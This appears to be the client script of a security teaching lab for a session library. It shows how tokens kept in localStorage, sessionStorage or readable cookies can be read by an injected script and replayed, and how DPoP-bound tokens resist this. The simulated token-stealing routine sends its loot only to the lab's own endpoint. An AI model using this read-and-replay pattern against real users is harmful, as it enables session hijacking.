/** The storage lab: a token copied where scripts can read it, and the "injected" script itself. */
import { createSessionClient, memoryTokens, type SessionClient } from "./client/index.js";
import { jsonRequest, messageOf, onClick, pageConfig, say, setText } from "./shared.js";

/** Rendered by the `/lab` route (src/server/lab.ts). */
interface Config {
  /** The signed-in strategy, whose kind of token the lab copies; absent when signed out. */
  strategy?: string;
  /** The name of its session cookie, which an injected script tries to read. */
  sessionCookie?: string;
}

const KEY = "sessionkit.lab.token";
const BOUND = "sessionkit.lab.bound";
const { strategy, sessionCookie = "" } = pageConfig<Config>();
// For hybrid, the client refreshes a lapsed access token before the lab's calls need it.
const client = createSessionClient(strategy === "hybrid" ? { strategy } : {});
// The bound row's client: a key this page makes with WebCrypto (not extractable, kept in
// IndexedDB), a DPoP proof on every request it sends.
let bound: SessionClient | null = null;
try {
  bound = createSessionClient({ tokens: memoryTokens(), dpop: true, channel: "sessionkit-lab" });
} catch (error) {
  setText("present-bound", `not in this browser: ${messageOf(error)}`);
}

const show = () => {
  setText("present-local", localStorage.getItem(KEY) ? "yes" : "no");
  setText("present-session", sessionStorage.getItem(KEY) ? "yes" : "no");
  if (bound) setText("present-bound", localStorage.getItem(BOUND) ? "yes" : "no");
};
show();

onClick("#lab-copy", async () => {
  const r = await client.fetch("/api/lab/copy", { method: "POST" });
  if (!r.ok) {
    setText("status", `No lab token (HTTP ${r.status}): sign in again.`);
    return;
  }
  const { token, expiresAt } = (await r.json()) as { token: string; expiresAt: string };
  setText(
    "lab-expiry",
    `The copies are ${strategy} lab tokens; they end at ${new Date(expiresAt).toLocaleTimeString()}.`,
  );
  localStorage.setItem(KEY, token);
  sessionStorage.setItem(KEY, token);
  if (bound) {
    const b = await bound.fetch("/api/lab/copy-bound", { method: "POST" });
    if (b.ok) localStorage.setItem(BOUND, ((await b.json()) as { token: string }).token);
    else setText("present-bound", `no bound token (HTTP ${b.status})`);
  }
  show();
});

// The copies go from this browser, and their lab sessions end on the server: a copy already
// taken stops working because of the revocation. Results of a run in flight are dropped.
let runs = 0;
onClick("#lab-clear", async () => {
  runs++;
  localStorage.removeItem(KEY);
  sessionStorage.removeItem(KEY);
  localStorage.removeItem(BOUND);
  for (const where of ["cookie", "local", "session", "bound"]) {
    setText(`read-${where}`, "?");
    setText(`use-${where}`, "?");
  }
  setText("lab-expiry", "");
  show();
  const r = await client.fetch("/api/lab/copy", { method: "DELETE" });
  say(
    r.ok
      ? "Copies removed from this browser, and their lab sessions revoked: a copy already taken no longer works."
      : `Copies removed from this browser; revoking them failed (HTTP ${r.status}).`,
  );
});

/** The value of cookie `name` as `document.cookie` shows it (an HttpOnly one never is). */
function readableCookie(name: string): string | null {
  for (const pair of document.cookie.split("; ")) {
    const at = pair.indexOf("=");
    if (at > 0 && pair.slice(0, at) === name) return pair.slice(at + 1) || null;
  }
  return null;
}

const glimpse = (token: string | null) => (token ? `yes: ${token.slice(0, 8)}…` : "no");

// What an injected script does: read whatever it can, then try it without the victim's
// cookies, as it would from the attacker's own machine.
async function injected() {
  const run = ++runs;
  const put = (id: string, text: string) => {
    if (run === runs) setText(id, text);
  };
  const stolen = {
    cookie: readableCookie(sessionCookie),
    local: localStorage.getItem(KEY),
    session: sessionStorage.getItem(KEY),
  };
  for (const [where, token] of Object.entries(stolen)) {
    put(`read-${where}`, glimpse(token));
    if (!token) {
      put(`use-${where}`, "nothing to use");
      continue;
    }
    const r = await fetch("/api/lab/me", {
      credentials: "omit",
      headers: { authorization: `Bearer ${token}` },
    });
    put(`use-${where}`, `${r.ok ? "yes" : "no"} (HTTP ${r.status})`);
  }
  const copy = localStorage.getItem(BOUND);
  put("read-bound", glimpse(copy));
  if (!copy) {
    put("use-bound", "nothing to use");
    return;
  }
  // Sent away, and tried where the key is not: the server plays the attacker's machine.
  const r = await fetch("/api/lab/attacker", {
    ...jsonRequest("POST", { token: copy }),
    credentials: "omit",
  });
  const tried = r.ok ? ((await r.json()) as { bearer: string; ownKey: string }) : null;
  put(
    "use-bound",
    tried
      ? `no: as Bearer ${tried.bearer}; with the attacker's own key ${tried.ownKey}`
      : `could not try (HTTP ${r.status})`,
  );
}
onClick("#lab-run", injected);
